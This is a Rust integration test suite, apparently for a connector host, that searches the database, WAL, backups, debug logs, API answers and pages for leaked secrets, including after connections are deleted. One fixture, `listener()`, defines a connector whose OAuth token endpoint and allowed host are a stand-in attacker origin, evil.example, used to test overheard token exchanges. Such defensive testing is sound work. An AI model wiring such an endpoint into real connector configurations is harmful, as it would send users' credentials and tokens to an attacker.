//! S15: **no secret lies open**, not in the database and its WAL, not in a backup, not in the log at its most
//! talkative, not in any answer of the API, not in a page.

use std::path::{Path, PathBuf};

use patchbay_it::{Database, Enter, Kind, Rig, RigSetup, Tab, Tenant, Variant, kinds};
use patchbay_test_support::{
    Answer, Browser, Page, Result, Trouble, canary,
    fakes::{
        FakesConfig,
        logins::{Behaviour, REGIONS},
    },
    wait_until,
};
use serde_json::{Value, json};

/// The cookie that binds a session to its browser.
const COOKIE: &str = "__Host-patchbay-login";
/// Everything that the host can say, and what its libraries say of requests.
const TALKATIVE: &str = "[log]\nfilter = \"debug\"\n";
const LIMIT: std::time::Duration = std::time::Duration::from_secs(60);

/// Kinds of login that bring every kind of secret; all kinds are searched for in `identify_echo`.
const SEARCHED: [&str; 9] = [
    "basic",
    "pair",
    "json-body",
    "session",
    "machine",
    "code-basic",
    "code-exchanged",
    "code-signed",
    "region-callback",
];

/// A seed of a soak, or one of this process; printed, because the credentials of the fakes follow from it.
pub(crate) fn seed() -> u64 {
    #[expect(clippy::disallowed_methods, reason = "tests have no configuration file of their own")]
    let asked = std::env::var("PATCHBAY_SOAK_SEED").ok();
    let seed = asked.and_then(|text| text.parse().ok()).unwrap_or_else(|| u64::from(std::process::id()));
    println!("seed {seed}");
    seed
}

/// A host with fakes whose secrets nobody has seen before, and with these customers' origins.
pub(crate) fn rig(customers: &[&str]) -> Result<Rig> {
    let mut config = FakesConfig::small();
    config.seed = seed();
    let customers = customers.iter().map(|origin| (*origin).to_owned()).collect();
    RigSetup { fakes: Some(config), more: TALKATIVE.to_owned(), customers, test_clock: true, ..RigSetup::default() }
        .start()
}

/// What one login by a link left behind.
pub(crate) struct Walked {
    pub(crate) connection: String,
    pub(crate) session: String,
    /// Every page that the host showed.
    pub(crate) pages: Vec<Page>,
    /// What opens something once, or for a while: link token, cookie, state, codes. The browser and the tenant
    /// see them, nobody else.
    pub(crate) tickets: Vec<String>,
}

/// Walks a link for a kind of login as the fake's account `one`, and completes it.
pub(crate) fn walk(rig: &Rig, tenant: &Tenant, kind: &Kind, return_to: &str) -> Result<Walked> {
    let connector = format!("patchbay.{}", kind.name);
    let session = tenant.session(&connector, &json!({ "end_user": "user-1", "return_to": return_to }))?;
    let mut browser = Browser::default();
    let landing = browser.open(&session.url)?;
    let review = browser.review(&session.url, &connector)?;
    let typed = match &kind.enter {
        Enter::Fields(fields) | Enter::Consent { fields, .. } => fields.as_object().cloned().unwrap_or_default(),
    };
    let typed: Vec<(&str, &str)> =
        typed.iter().filter_map(|(name, value)| Some((name.as_str(), value.as_str()?))).collect();
    let sent = browser.authorise(&review, &typed)?;
    let cookie = browser.cookie("127.0.0.1", COOKIE).map(str::to_owned);
    let token = session.url.rsplit('/').next().map(str::to_owned);
    let mut tickets: Vec<String> = cookie.into_iter().chain(token).collect();
    let last = match &kind.enter {
        Enter::Fields(_) => sent.clone(),
        Enter::Consent { region, .. } => {
            tickets.extend(sent.told("state"));
            let to = sent.location().ok_or_else(|| Trouble::new(format!("{}: {}", kind.name, sent.text)))?;
            let known = rig.fakes.logins.provider.credentials("one");
            let back = browser.logins(to.as_str(), &known, region, true)?;
            tickets.extend(back.told("code"));
            browser.return_to(&back)?
        }
    };
    let left = browser.finish(&last).map_err(|error| Trouble::new(format!("{}: {error}", kind.name)))?;
    let code = left.told("code").ok_or_else(|| Trouble::new(format!("{}: no code: {left:?}", kind.name)))?;
    let made = tenant.complete(&session.id, &code, "user-1")?.expect(200)?;
    tickets.push(code);
    let pages = vec![landing, review, sent, last, left];
    Ok(Walked { connection: made.text_at("/id")?, session: session.id, pages, tickets })
}

/// The answer of every GET operation of the document, as the tenant, as one of its users in the portal, as the operator
/// for the tenant, and as the operator alone. A parameter that nobody has a value for fails the test: say it here.
pub(crate) fn every_get(rig: &Rig, tenant: &Tenant, connection: &str, session: &str) -> Result<Vec<Answer>> {
    let document = rig.stranger().get("/openapi.json")?.expect(200)?.json;
    let detail = tenant.get(&format!("/v1/connections/{connection}"))?;
    let connector = detail.text_at("/connector")?;
    let release = rig.operator.get(&format!("/v1/connectors/{connector}"))?.expect(200)?.text_at("/items/0/id")?;
    let runs = tenant.runs(connection)?;
    let run = runs.first().and_then(|run| run["id"].as_str()).unwrap_or("run_00000000000000000000000000");
    let syncs = tenant.get(&format!("/v1/connections/{connection}/syncs"))?;
    let sync = syncs.text_at("/items/0/id").unwrap_or_else(|_| "syn_00000000000000000000000000".to_owned());
    let portal = Tab::portal(rig, tenant, "user-1")?;
    let mut answers = Vec::new();
    for (path, methods) in document["paths"].as_object().cloned().unwrap_or_default() {
        // A stream of events has no end; what it tells is what the list of events has.
        if methods.get("get").is_none() || path == "/v1/events/watch" {
            continue;
        }
        let filled = path
            .replace("/connections/{id}", &format!("/connections/{connection}"))
            .replace("/connect-sessions/{id}", &format!("/connect-sessions/{session}"))
            .replace("/tenants/{id}", &format!("/tenants/{}", tenant.id))
            .replace("/releases/{id}", &format!("/releases/{release}"))
            .replace("/runs/{id}", &format!("/runs/{run}"))
            .replace("/pushes/{id}", "/pushes/psh_00000000000000000000000000")
            .replace("/blobs/{id}", "/blobs/blb_00000000000000000000000000")
            .replace("/events/{id}", "/events/evt_00000000000000000000000000")
            .replace("/webhooks/{id}", "/webhooks/whk_00000000000000000000000000")
            .replace("/syncs/{id}", &format!("/syncs/{sync}"))
            .replace("/v1/progress", &format!("/v1/progress?run={run}"))
            .replace("{connector}", &connector)
            .replace("{stream}", "chosen")
            .replace("{picker}", "search")
            .replace("{code}", "PB2010");
        if filled.contains('{') {
            return Err(Trouble::new(format!("say what stands for the parameters of {path}: every_get of canary.rs")));
        }
        for api in [tenant.api.clone(), rig.operator_of(tenant), rig.operator.clone()] {
            answers.push(api.get(&filled)?);
        }
        answers.push(portal.get(&filled)?);
    }
    let mut page = "/v1/audit?limit=200".to_owned();
    loop {
        let part = rig.operator.get(&page)?.expect(200)?;
        let next = part.json["next"].as_str().map(str::to_owned);
        answers.push(part);
        match next {
            Some(next) => page = format!("/v1/audit?limit=200&before={next}"),
            None => break,
        }
    }
    assert!(answers.iter().filter(|answer| answer.status == 200).count() > 25, "there must be something to search");
    Ok(answers)
}

/// Fails when one of the secrets stands in one of the files, or in the folders' files.
pub(crate) fn none_in(places: &[PathBuf], secrets: &[String]) -> Result<()> {
    let secrets: Vec<&str> = secrets.iter().map(String::as_str).collect();
    let places: Vec<&Path> = places.iter().map(PathBuf::as_path).collect();
    assert!(!secrets.is_empty() && canary::files(&places)?.len() >= places.len(), "there must be something to search");
    let hits = canary::search(&places, &secrets)?;
    match hits.first() {
        None => Ok(()),
        Some(hit) => {
            let content = std::fs::read(&hit.file).unwrap_or_default();
            let around = content.get(hit.offset.saturating_sub(160)..hit.offset).unwrap_or_default();
            let around = String::from_utf8_lossy(around).into_owned();
            Err(Trouble::new(format!("{} hits, the first {hit:?}, which follows {around:?}", hits.len())))
        }
    }
}

/// Answers and pages as files of a folder, for a search.
pub(crate) fn written(folder: &Path, answers: &[Answer], pages: &[Page]) -> Result<PathBuf> {
    let folder = folder.join("answers");
    std::fs::create_dir(&folder)?;
    for (place, answer) in answers.iter().enumerate() {
        let text = format!("{}\n{:?}\n{}", answer.asked, answer.headers, answer.text());
        std::fs::write(folder.join(format!("answer-{place}")), text)?;
    }
    for (place, page) in pages.iter().enumerate() {
        std::fs::write(folder.join(format!("page-{place}.html")), format!("{:?}\n{}", page.headers, page.text))?;
    }
    Ok(folder)
}

/// The database, its WAL and its log; not the connectors, which were there before any secret.
pub(crate) fn kept(rig: &Rig) -> Result<Vec<PathBuf>> {
    let mut places = vec![rig.host.log_path()];
    for entry in std::fs::read_dir(rig.host.data_dir())? {
        let path = entry?.path();
        let name = path.file_name().and_then(|name| name.to_str()).unwrap_or_default().to_owned();
        if name.starts_with("patchbay.db") {
            places.push(path);
        }
    }
    assert!(places.len() >= 3, "the log, the database and its WAL: {places:?}");
    Ok(places)
}

/// A backup by SQLite and one of files, in a folder.
fn backup(rig: &Rig, folder: &Path) -> Result<PathBuf> {
    let folder = folder.join("backup");
    std::fs::create_dir(&folder)?;
    let file = rig.host.data_dir().join("patchbay.db");
    let copy = folder.join("vacuumed.db").to_string_lossy().into_owned();
    let mut database = Database::open(&file)?;
    database.rows("VACUUM INTO ?", &[json!(copy)])?;
    database.rows("PRAGMA wal_checkpoint(FULL)", &[])?;
    std::fs::copy(&file, folder.join("copied.db"))?;
    Ok(folder)
}

/// The connector whose token address is an attacker's, who hears what the host sends there.
fn listener() -> String {
    "[[auth]]\nid = \"login\"\nkind = \"oauth2\"\nlabel = \"Log in\"\n\
     [auth.authorize]\nurl = \"https://logins.example/oauth/authorize\"\n\
     [auth.token]\nurl = \"https://evil.example/token\"\n\
     [[auth.scope]]\nname = \"read\"\nreason = \"To read.\"\n\
     [[auth.slot]]\nid = \"bearer\"\nstandard = true\nplace = \"header\"\nname = \"Authorization\"\n\
     value = \"Bearer {access_token}\"\n\
     [[host]]\norigin = \"https://evil.example\"\npaths = [\"/api/\"]\nmethods = [\"GET\"]\nslots = [\"bearer\"]\n\
     reason = \"The provider of the test.\"\n[config]\nschema = '{ \"type\": \"object\" }'\n\
     defaults = '{ \"ask\": { \"url\": \"https://evil.example/api/me\" } }'\n"
        .to_owned()
}

/// The verifiers of PKCE that the host sent while it exchanged codes.
fn verifiers(rig: &Rig) -> Vec<String> {
    let caught = rig.fakes.logins.provider.caught().into_iter().flatten();
    caught.filter(|(name, _)| name == "code_verifier").map(|(_, value)| value).collect()
}

#[test]
fn no_secret_of_any_kind_lies_open_anywhere() -> Result<()> {
    let rig = rig(&[])?;
    let logins = &rig.fakes.logins.provider;
    let tenant = rig.tenant("A")?;
    let return_to = tenant.return_address()?;
    let (mut pages, mut answers, mut tickets) = (Vec::new(), Vec::new(), Vec::new());
    let mut secrets: Vec<String> = vec![logins.client().secret];
    let mut last = None;
    for kind in kinds(logins).into_iter().filter(|kind| SEARCHED.contains(&kind.name)) {
        rig.install_kind(&kind)?;
        if kind.name == "region-callback" {
            // Each region has a client secret of its own.
            logins.behave(Behaviour { secret_by_region: true, ..kind.behaviour.clone() });
            let regional = REGIONS.map(|region| (region, logins.region_secret(region)));
            secrets.extend(regional.iter().map(|(_, secret)| secret.clone()));
            let client = logins.client();
            let regional: std::collections::BTreeMap<_, _> = regional.into_iter().collect();
            let body = json!({ "client_id": client.id, "client_secret": client.secret, "region_secrets": regional });
            let put = rig.operator.put("/v1/connectors/patchbay.region-callback/oauth-client", &body)?.expect(200)?;
            answers.push(put);
        }
        let walked = walk(&rig, &tenant, &kind, &return_to)?;
        let run = tenant.first_run(&walked.connection)?;
        assert_eq!(run["state"], json!("done"), "{}: {run}", kind.name);
        // In the last quarter of an hour of its life a token is renewed, where that can be.
        rig.advance(std::time::Duration::from_secs(46 * 60))?;
        let path = format!("/v1/connections/{}/identify", walked.connection);
        answers.push(tenant.api.post(&path, &json!({}))?.expect(200)?);
        secrets.extend(kind.secrets.iter().cloned());
        tickets.extend(walked.tickets);
        pages.extend(walked.pages);
        last = Some((walked.connection, walked.session));
    }

    // A login whose exchange is overheard, one that fails with what was typed, and tokens from elsewhere.
    rig.install(Variant::of_login("overheard", &listener())?.pack()?)?;
    logins.behave(Behaviour::default());
    let client = logins.client();
    logins.allow_redirect(&rig.register("patchbay.overheard", &client.id, &client.secret)?);
    let overheard = Kind {
        name: "overheard",
        tables: listener(),
        behaviour: Behaviour::default(),
        enter: Enter::Consent { fields: json!({}), region: "" },
        secrets: Vec::new(),
        customer: None,
    };
    let walked = walk(&rig, &tenant, &overheard, &return_to)?;
    tickets.extend(walked.tickets);
    let heard = verifiers(&rig);
    assert_eq!(heard.len(), 1, "the verifier was sent once");
    tickets.extend(heard);

    let mistyped = "mistyped-Q7zK2m\"/+x9".to_owned();
    let body =
        json!({ "connector": "patchbay.basic", "fields": { "user": "one@office.example", "password": mistyped } });
    let refused = tenant.api.post("/v1/connections", &body)?;
    assert!(refused.status >= 400, "{refused:?}");
    answers.push(refused);
    let imported = format!("imported-{}", logins.region_secret("us"));
    let body = json!({ "connector": "patchbay.code-basic", "secrets": { "refresh_token": imported } });
    let refused = tenant.api.post("/v1/connections/import", &body)?;
    assert!(refused.status >= 400, "{refused:?}");
    answers.push(refused);
    secrets.extend([mistyped, imported]);

    secrets.extend(logins.values());
    secrets.sort();
    secrets.dedup();
    assert!(logins.values().len() > 12, "tokens were given and renewed: {}", logins.values().len());
    assert!(tickets.len() > 30, "tickets of each login: {}", tickets.len());
    let (connection, session) = last.ok_or_else(|| Trouble::new("no kind of login"))?;
    answers.extend(every_get(&rig, &tenant, &connection, &session)?);

    let folder = tempfile::tempdir()?;
    let told = written(folder.path(), &answers, &[])?;
    let mut places = kept(&rig)?;
    places.push(backup(&rig, folder.path())?);
    places.push(told);
    none_in(&places, &[secrets.as_slice(), &tickets, &[tenant.key.clone(), rig.host.operator_key()?]].concat())?;
    let shown = tempfile::tempdir()?;
    none_in(&[written(shown.path(), &[], &pages)?], &secrets)
}

#[test]
fn what_is_deleted_or_dropped_lies_open_nowhere_either() -> Result<()> {
    let rig = rig(&[])?;
    let logins = &rig.fakes.logins.provider;
    let kind = kinds(logins).into_iter().find(|kind| kind.name == "code-basic").expect("it is there");
    rig.install_kind(&kind)?;
    let tenant = rig.tenant("A")?;
    let return_to = tenant.return_address()?;
    let walked = walk(&rig, &tenant, &kind, &return_to)?;
    tenant.settled()?;
    tenant.api.delete(&format!("/v1/connections/{}?records=remove", walked.connection))?.expect(204)?;
    wait_until("the revocation", LIMIT, || Ok(logins.calls().iter().any(|call| call.grant == "revoke").then_some(())))?;
    let other = walk(&rig, &tenant, &kind, &return_to)?;
    let answers = every_get(&rig, &tenant, &other.connection, &walked.session)?;
    let folder = tempfile::tempdir()?;
    let mut places = kept(&rig)?;
    places.extend([backup(&rig, folder.path())?, written(folder.path(), &answers, &[])?]);
    none_in(&places, &[logins.values(), walked.tickets, other.tickets, kind.secrets].concat())
}

#[test]
fn the_search_finds_what_is_there() -> Result<()> {
    let rig = rig(&[])?;
    let tenant = rig.tenant("Kantoor canary")?;
    tenant.return_address()?;
    let none = none_in(&kept(&rig)?, &["Kantoor canary".to_owned()]);
    assert!(none.is_err(), "a tenant's name is in the database");
    assert!(none_in(&kept(&rig)?, std::slice::from_ref(&tenant.key)).is_ok());
    let mut database = Database::open(&rig.host.data_dir().join("patchbay.db"))?;
    // Only what the key hashes to is kept.
    let hashes = database.value("SELECT count(*) FROM api_keys WHERE length(hash) = 32", &[])?;
    assert_eq!(hashes, json!(2));
    let key: Value = database.value("SELECT count(*) FROM api_keys WHERE instr(hash, ?) > 0", &[json!(tenant.key)])?;
    assert_eq!(key, json!(0));
    Ok(())
}
